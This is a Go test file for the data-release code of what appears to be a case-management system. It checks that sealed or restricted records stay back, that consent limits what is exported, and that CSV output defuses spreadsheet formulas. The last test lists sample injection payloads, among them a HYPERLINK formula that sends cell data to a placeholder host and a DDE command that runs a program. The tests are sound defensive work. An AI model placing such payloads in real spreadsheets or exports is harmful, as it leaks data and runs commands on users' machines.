package standard_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/fourfold/fourfold/internal/auth"
	"github.com/fourfold/fourfold/internal/protection/casefile"
	"github.com/fourfold/fourfold/internal/protection/standard"
)

// While a person contests what is kept, and while a record is sealed, it leaves with no release, whoever agreed to it before;
// only a move of everything takes it along.
func TestARestrictedRecordStaysHere(t *testing.T) {
	h := newHouse(t)
	h.in(h.file("htcds", "2.0", standard.JSON, twoPeople))
	h.Agreements = &paper{to: "police", purpose: "support", roles: []auth.Role{auth.Investigator}}
	of := h.adult()
	h.agrees(of)
	for _, state := range []casefile.State{casefile.Restricted, casefile.Sealed} {
		c, err := h.cases.Get(t.Context(), h.chief, of.ID())
		h.must(err)
		h.must(h.cases.Mark(t.Context(), h.chief, of.ID(), c.Version, state))
		for _, r := range []standard.Release{
			{Profile: standard.Whole, To: "police", Reason: "demand"},
			{Profile: standard.Whole, To: "police", Reason: "move"},
			{Profile: standard.Whole, To: standard.Ourselves, Reason: "report"},
		} {
			file, done, err := h.out(r)
			h.must(err)
			want := 0
			if r.To == standard.Ourselves {
				want = 1
			}
			if done.Records != want || done.LeftOut != 2-want || strings.Count(file, "prs_SecondName") != want {
				t.Errorf("%s, to %s for a %s: %+v", state, r.To, r.Reason, done)
			}
		}
	}
	_, done, err := h.out(standard.Release{Profile: standard.Whole, To: standard.Ourselves, Reason: "move"})
	h.must(err)
	if done.Records != 2 {
		t.Errorf("a move takes %d of 2 along", done.Records)
	}
}

// A name that a spreadsheet would run is no formula in the table, and is the same name when the table is read again. A telephone
// stays as it is.
func TestNoFormulaLeaves(t *testing.T) {
	m, err := standard.MapOf("htcds", "2.0")
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{
		`=HYPERLINK("http://example.invalid/?"&A1)`, "@SUM(1)", "+cmd|'/c calc'!A1", "-2+3+cmd", "\t=1", "'=1", "''@x", "O'Brien", "'Abd", "+44 7700 900987", "-5",
	} {
		row := standard.Row{Number: 1, Cells: []standard.Cell{{Column: "prs_SecondName", Values: []string{name}}}}
		file := text(t, m, standard.CSV, row)
		table, err := csv.NewReader(bytes.NewReader([]byte(file))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		phone := strings.HasPrefix(name, "+44") || name == "-5"
		for _, cell := range table[1] {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") && !phone {
				t.Errorf("%q leaves as %q", name, cell)
			}
			if phone && cell != "" && cell != name {
				t.Errorf("%q leaves as %q", name, cell)
			}
		}
		again := parse(t, standard.CSV, file)
		if len(again) != 1 || len(again[0].Cells) != 1 || again[0].Cells[0].Values[0] != name {
			t.Errorf("%q is read again as %+v", name, again)
		}
	}
}

// A yes to who somebody is carries no telephone. What somebody told, and where somebody is or was, leave with no release to
// others, whatever they agreed to.
func TestAYesCarriesNoMoreThanItSays(t *testing.T) {
	h := newHouse(t)
	h.in(h.file("htcds", "2.0", standard.JSON, `[{"prs_SecondName":"Okafor","prs_Birthdate":"1980-01-01","prs_MobilePhone":"07700 900555",
		"prs_MailingStreet":"7 Mill Lane","hte_City":"Massawa","cas_IncomingReferralDetails":"Called at night (invented)."}]`))
	h.Agreements = &paper{to: "police", purpose: "support", roles: []auth.Role{auth.Investigator}}
	of := h.adult()
	h.agrees(of, "identity")
	file, done, err := h.out(standard.Release{Profile: standard.Whole, To: "police"})
	h.must(err)
	if done.Records != 0 || done.LeftOut != 1 || strings.Contains(file, "900555") || strings.Contains(file, "at night") {
		t.Errorf("agreed to who they are: %+v %s", done, file)
	}
	h.agrees(of)
	file, done, err = h.out(standard.Release{Profile: standard.Whole, To: "police"})
	h.must(err)
	if done.Records != 1 || !strings.Contains(file, "900555") {
		t.Errorf("agreed to all of it: %+v %s", done, file)
	}
	if strings.Contains(file, "Mill Lane") || strings.Contains(file, "Massawa") || strings.Contains(file, "at night") {
		t.Errorf("a place or a story leaves: %s", file)
	}
	v, err := h.consents.View(t.Context(), h.chief, string(of.ID()))
	h.must(err)
	told := 0
	for _, l := range v.Left {
		told += len(l.Classes)
	}
	if told != len(everyClass) {
		t.Errorf("the person is shown %+v", v.Left)
	}
}
